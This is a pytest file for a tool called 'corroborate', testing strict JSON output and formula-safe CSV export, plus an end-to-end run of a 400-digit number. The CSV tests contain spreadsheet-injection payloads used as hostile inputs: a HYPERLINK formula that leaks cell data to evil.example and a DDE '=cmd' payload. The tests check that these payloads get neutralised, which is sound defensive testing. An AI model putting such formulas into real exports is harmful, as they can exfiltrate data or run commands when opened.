"""Strict JSON and formula-safe CSV for every writer (corroborate.write), and a number too
large for a float (400 digits) going through extract, ingest, ledger, audit and export."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from spacy.language import Language
from typer.testing import CliRunner

from corroborate.audit import render as audit_render
from corroborate.audit.report import Audit
from corroborate.cli import app
from corroborate.ingest import ingest_paths
from corroborate.ledger import render as ledger_render
from corroborate.ledger.export import export
from corroborate.ledger.store import rebuild
from corroborate.records import Allegation, EnforcementFigure, Entity, Event, Ledger
from corroborate.store import open_store
from corroborate.write import csv_writer, json_text, strict

runner = CliRunner()
HUGE = "9" * 400  # float("9" * 400) is inf


def strict_loads(text: str) -> Any:
    """json.loads as a strict parser reads: Infinity and NaN are errors."""

    def refuse(name: str) -> Any:
        raise ValueError(f"not strict JSON: bare {name}")

    return json.loads(text, parse_constant=refuse)


# --- json_text -------------------------------------------------------------------------------


def test_numbers_json_cannot_hold_become_text() -> None:
    data = {"a": math.inf, "b": [-math.inf, math.nan, 1.5], "c": {"d": (2, math.inf)}}
    assert strict_loads(json_text(data)) == {
        "a": "Infinity",
        "b": ["-Infinity", "NaN", 1.5],
        "c": {"d": [2, "Infinity"]},
    }


JsonValue = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=20,
)


@given(JsonValue)
def test_json_text_is_always_strict_and_keeps_every_finite_value(value: Any) -> None:
    parsed = strict_loads(json_text(value))
    assert parsed == json.loads(json.dumps(strict(value)))
    if "Infinity" not in json.dumps(value) and "NaN" not in json.dumps(value):
        assert parsed == json.loads(json.dumps(value))  # nothing else changes


# --- csv_writer ------------------------------------------------------------------------------

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example","click")', "+1+2", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_csv_cells_cannot_start_a_formula(cell: str) -> None:
    out = io.StringIO()
    csv_writer(out).writerow([cell, 12, -3, "plain"])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[0] == "'" + cell
    assert row[1:] == ["12", "-3", "plain"]  # numbers stay numbers


def _hostile_ledger() -> Ledger:
    quote = '=HYPERLINK("http://evil.example/?leak="&A1,"Court ruling")'
    event = Event(
        date="2020-01-02", kind="allegation", outcome=None, setting=None,
        source="@attacker", document_id="d1", quote=quote, start=0, end=len(quote),
    )  # fmt: skip
    entity = Entity(id="ent_1", name="+Noor", type="person")
    allegation = Allegation(
        id="alg_1", accused=["ent_1"], act="-murder", alleged_by=["=cmd|' /C calc'!A0"],
        status="alleged", confession_only=False, events=[event],
    )  # fmt: skip
    return Ledger(entities=[entity], allegations=[allegation])


def _no_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert cell[:1] not in ("=", "+", "@") and not (
                cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()
            ), cell


def test_ledger_and_export_csv_neutralise_formulas() -> None:
    ledger = _hostile_ledger()
    for text in (ledger_render.to_csv(ledger), export(ledger, "csv", {})):
        _no_formula(text)
        assert "'=HYPERLINK(" in text


def test_audit_csv_neutralises_formulas() -> None:
    figure = EnforcementFigure(
        measure="arrests", group="=1+1", document_id="d1", quote="@SUM(1,2) were arrested",
        start=0, end=10, value=3.0, agency="-Rangers",
    )  # fmt: skip
    text = audit_render.to_csv(Audit(figures=[figure], groups=[], discrepancies=[]))
    _no_formula(text)
    assert "'@SUM(1,2)" in text


# --- a 400-digit number, end to end ------------------------------------------------------------


@pytest.fixture(scope="module")
def huge_input(tmp_path_factory: pytest.TempPathFactory) -> Path:
    text = (
        f"The Coastal Guard said on Monday that it had arrested {HUGE} workers of the Harbour"
        f" Party since June. The Guard claims that Tariq Noor took part in {HUGE} killings."
    )
    path = tmp_path_factory.mktemp("huge") / "huge.jsonl"
    path.write_text(json.dumps({"id": "huge-1", "published": "2020-01-06", "text": text}) + "\n")
    return path


@pytest.fixture(scope="module")
def huge_db(huge_input: Path, nlp: Language) -> str:
    db = str(huge_input.parent / "huge.db")
    with open_store(db) as store:
        ingest_paths([huge_input], store, nlp, after_ingest=rebuild)
    return db


def test_extract_writes_strict_json(huge_input: Path, nlp: Language) -> None:
    result = runner.invoke(app, ["extract", str(huge_input)])
    assert result.exit_code == 0, result.output
    row = strict_loads(result.stdout)
    assert row["id"] == "huge-1" and row["attributions"]


@pytest.mark.parametrize(
    "args",
    [
        ["audit", "--format", "json"],
        ["ledger", "--format", "json"],
        ["export", "--format", "jsonl"],
        ["export", "--format", "claimreview"],
        ["export", "--format", "ftm"],
    ],
)
def test_stored_outputs_are_strict_json(huge_db: str, args: list[str]) -> None:
    result = runner.invoke(app, [*args, "--db", huge_db])
    assert result.exit_code == 0, result.output
    if args[-1] in ("jsonl", "ftm"):
        for line in result.stdout.splitlines():
            strict_loads(line)
    else:
        strict_loads(result.stdout)
